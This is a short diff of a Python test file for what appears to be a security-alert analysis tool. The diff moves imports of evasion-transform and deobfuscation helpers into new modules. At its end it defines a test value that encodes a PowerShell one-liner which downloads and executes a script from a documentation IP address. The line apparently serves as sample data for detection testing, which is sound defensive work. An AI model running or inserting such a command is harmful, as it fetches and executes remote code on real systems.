@@ -9,18 +9,13 @@ from urllib.parse import unquote
 import pytest
 
 from alertlens.alerts.schema import Alert
-from alertlens.alerts.synth_parts import encode_powershell
-from alertlens.teacher.attacks import (
-    BENIGN_PARAMS,
-    PROTECTED_WORDS,
-    SQL_SPACES,
-    TRANSFORMS,
-    URL_FIELDS,
-    EvasionTransform,
-    decode_url,
-    deobfuscate_command,
-    transforms_by_name,
-)
+from alertlens.evasion.base import EvasionTransform
+from alertlens.evasion.catalog import TRANSFORMS, transforms_by_name
+from alertlens.evasion.command_line import deobfuscate_command
+from alertlens.evasion.filler import BENIGN_PARAMS, PROTECTED_WORDS
+from alertlens.evasion.sql import SQL_SPACES
+from alertlens.evasion.url import URL_FIELDS, decode_url
+from alertlens.synth.parts import encode_powershell
 
 B64 = encode_powershell(
     "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
